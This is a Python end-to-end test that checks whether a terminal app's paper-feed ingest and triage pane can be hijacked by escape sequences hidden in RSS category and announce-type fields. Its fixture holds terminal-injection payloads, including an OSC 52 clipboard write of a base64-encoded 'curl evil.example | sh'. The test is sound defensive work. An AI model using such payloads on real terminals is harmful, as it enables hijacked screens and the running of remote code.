"""Issue 12 #2: a feed's categories and announce type must not take over the terminal.

The attack, rerun the way it was found: a real RSS file with escape sequences in ``<category>``
and ``<arxiv:announce_type>``, ``cockpit papers ingest FILE`` (the real CLI), then the papers
pane's triage (``4``, ``t``) in a real tmux with ``set-clipboard on``. What tmux itself records
is checked: the pane title, the alternate-screen flag and the paste buffers (OSC 52 lands there).
"""

from __future__ import annotations

import base64
import shlex
import time

import pytest

from tests.harness.tmux import TmuxScreen, cockpit_cli, cockpit_cmd
from tests.papers import feeds

pytestmark = [pytest.mark.e2e, pytest.mark.needs_tools("tmux")]

TAKEOVER = "\x1b]2;HACKED\x07\x1b[?1049l\x1b[2J"  # set the title, leave the alternate screen, clear
CLIP = base64.b64encode(b"curl evil.example | sh").decode()
CLIPBOARD = f"\x1b]52;c;{CLIP}\x07"


def hostile_feed() -> bytes:
    return feeds.rss(
        [
            feeds.item("2611.00001", "First: takeover in the category", cats=(f"cs.LG{TAKEOVER}", "cs.AI")),
            feeds.item("2611.00002", "Second: clipboard in the category", cats=(f"cs.CL{CLIPBOARD}",)),
            feeds.item("2611.00003", "Third: both in the announce type", kind=f"new{CLIPBOARD}{TAKEOVER}"),
        ]
    )


def pane(s: TmuxScreen, fmt: str) -> str:
    return s.tmux("display-message", "-p", "-t", s.target, fmt).strip()


def test_feed_categories_cannot_retitle_leave_the_screen_or_write_the_clipboard(home, tmp_path):
    feed = tmp_path / "feed.xml"
    feed.write_bytes(hostile_feed())
    r = cockpit_cli(home, "papers", "ingest", str(feed))
    assert r.returncode == 0, r.stdout + r.stderr
    raw = tmp_path / "pane-bytes"
    with TmuxScreen(cockpit_cmd(), 80, 24, env={"COCKPIT_HOME": str(home)}, sock_dir=tmp_path) as s:
        s.tmux("set-option", "-g", "set-clipboard", "on")
        s.tmux("set-option", "-g", "allow-rename", "on")
        s.tmux("pipe-pane", "-t", s.target, f"cat >> {shlex.quote(str(raw))}")
        s.wait_for("Quit")
        title = pane(s, "#{pane_title}")
        assert pane(s, "#{alternate_on}") == "1"
        s.send("4")
        s.send("t")
        shown, deadline = "", time.monotonic() + 15
        while "Triage 2026-W" not in shown and time.monotonic() < deadline:
            time.sleep(0.1)
            shown = s.screen()
        states = []
        for _ in range(3):  # every paper, one after another
            time.sleep(0.4)
            states.append((pane(s, "#{alternate_on}"), pane(s, "#{pane_title}"), s.screen()))
            s.send("n")
        time.sleep(0.3)
        got = {
            "alternate screen": [a for a, _, _ in states],
            "pane titles": sorted({t for _, t, _ in states}),
            "window name": pane(s, "#{window_name}"),
            "paste buffers": s.tmux("list-buffers", check=False).strip(),
        }
        want = {
            "alternate screen": ["1", "1", "1"],
            "pane titles": [title],
            "window name": got["window name"].replace("HACKED", ""),
            "paste buffers": "",  # an OSC 52 clipboard write would be here
        }
        assert got == want, "the feed's text took over the terminal"
        # the triage is drawn, and the text around the sequences is shown literally
        seen = "\n".join(screen for _, _, screen in states)
        assert "Triage 2026-W" in seen, seen
        for needle in ("cs.LG", "cs.AI", "cs.CL", "takeover in the category", "· new"):
            assert needle in seen, f"{needle!r} not shown:\n{seen}"
        s.send("Escape")
        s.wait_for("1 Focus")
        s.send("C-q")
        assert s.wait_exit() == 0
        s.tmux("pipe-pane", "-t", s.target, check=False)
    data = raw.read_bytes()
    assert len(data) > 1000
    for seq in (b"\x1b]2;HACKED", b"\x1b]52;c;", CLIP.encode(), b"\x1b[?1049l\x1b[2J"):
        assert seq not in data, f"{seq!r} from the feed reached the terminal"
